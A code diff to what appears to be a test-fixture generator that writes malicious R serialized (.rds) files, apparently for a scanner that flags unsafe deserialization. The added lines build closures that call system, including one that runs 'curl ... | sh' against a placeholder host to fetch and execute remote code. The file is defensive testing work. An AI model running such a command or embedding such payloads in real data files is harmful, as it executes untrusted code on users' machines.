@@ -283,6 +283,11 @@ def _delayed() -> Iterator[tuple[str, bytes]]:
 
 def _functions() -> Iterator[tuple[str, bytes]]:
     yield "rds/function.rds", rds(named_list(("predict", closure(SYSTEM))))
+    yield "rds/expression.rds", rds(named_list(("call", SYSTEM)))
+    evaluated = environment(pairs(("x", promise(SYSTEM, value=reals(1)))))
+    yield "rds/expression-past.rds", rds(closure(symbol("x"), environment=evaluated))
+    fetches = calls("system", strings("curl -s https://example.invalid/weighbridge-marker | sh"))
+    yield "rds/function-download.rds", rds(named_list(("predict", closure(fetches))))
     qualified = call(calls("::", symbol("utils"), symbol("download.file")), ("", strings("marker")))
     yield "rds/function-package.rds", rds(named_list(("predict", closure(qualified))))
     compiled = bytecode((NULL, calls("mean", symbol("x"))), (SYMBOL, symbol("system2")))
